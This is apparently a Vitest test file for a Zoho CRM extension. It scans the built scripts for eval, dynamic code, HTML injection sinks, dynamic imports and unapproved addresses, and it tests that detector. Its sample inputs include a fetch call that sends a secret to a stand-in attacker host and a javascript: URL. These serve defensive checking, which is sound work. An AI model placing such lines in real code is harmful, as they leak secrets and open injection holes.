import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, it, test } from "vitest";
import { findDangers } from "../support/find-dangers.ts";

const FOLDER = "dist/extension/app";
const SCRIPTS = readdirSync(FOLDER).filter((file) => file.endsWith(".js"));

/** Where the data centres are, of which one address is put together, and the names of XML's languages. */
const ALLOWED = [
  /^address: https:\/\/(www\.zohoapis\.(com|eu|in|com\.au|jp|com\.cn|ca|sa))?$/,
  /^address: https:\/\/crm\.(zoho\.(com|eu|in|com\.au|jp|com\.cn|sa)|zohocloud\.ca)$/,
  /^address: http:\/\/www\.w3\.org\/(1999\/xhtml|2000\/svg|1998\/Math\/MathML)$/,
];

describe("the scripts that the CRM hosts", () => {
  it("are those of the two pages", () => {
    expect(SCRIPTS).toEqual(
      expect.arrayContaining(["record.js", "record-run.js", "settings.js", "settings-editor.js"]),
    );
  });

  it.each(SCRIPTS)("make no code or HTML of texts, load no module and name no strange address: %s", (file) => {
    const found = findDangers(readFileSync(`${FOLDER}/${file}`, "utf8"));
    expect(found.filter((danger) => !ALLOWED.some((allowed) => allowed.test(danger)))).toEqual([]);
  });
});

describe("the search for what is dangerous in a script", () => {
  test.each([
    "eval('1')",
    "window['eval']('1')",
    "(0, eval)('1')",
    "new Function('return 1')",
    "Function('return 1')()",
    "const make = Function",
    "(() => 1).constructor.constructor('return 1')()",
    "setTimeout('run()', 1)",
    "window.setInterval(`run(${1})`, 1)",
    "setTimeout('a' + b, 1)",
    "node.innerHTML = text",
    "node['innerHTML'] += text",
    "node.outerHTML = text",
    "Object.assign(node, { innerHTML: text })",
    "node.insertAdjacentHTML('beforeend', text)",
    "document.write(text)",
    "range.createContextualFragment(text)",
    "new DOMParser().parseFromString(text, 'text/html')",
    "frame.srcdoc = text",
    "h('p', { dangerouslySetInnerHTML: { __html: text } })",
    "html`<p dangerouslySetInnerHTML=${text}></p>`",
    "import('./more.js')",
    "new Worker('worker.js')",
    "fetch('https://evil.example/' + secret)",
    "location.href = 'javascript:alert(1)'",
  ])("finds %s", (script) => {
    expect(findDangers(script)).not.toEqual([]);
  });

  test.each([
    "// eval and new Function\nconst text = 'no eval here'",
    "setTimeout(() => run(), 1); setTimeout(run, 1)",
    "if (node.innerHTML == text) run()",
    "typeof run == 'function'",
    "node.textContent = text",
    "response.write(text)",
    "node.constructor.name",
  ])("leaves %j alone", (script) => {
    expect(findDangers(script)).toEqual([]);
  });
});
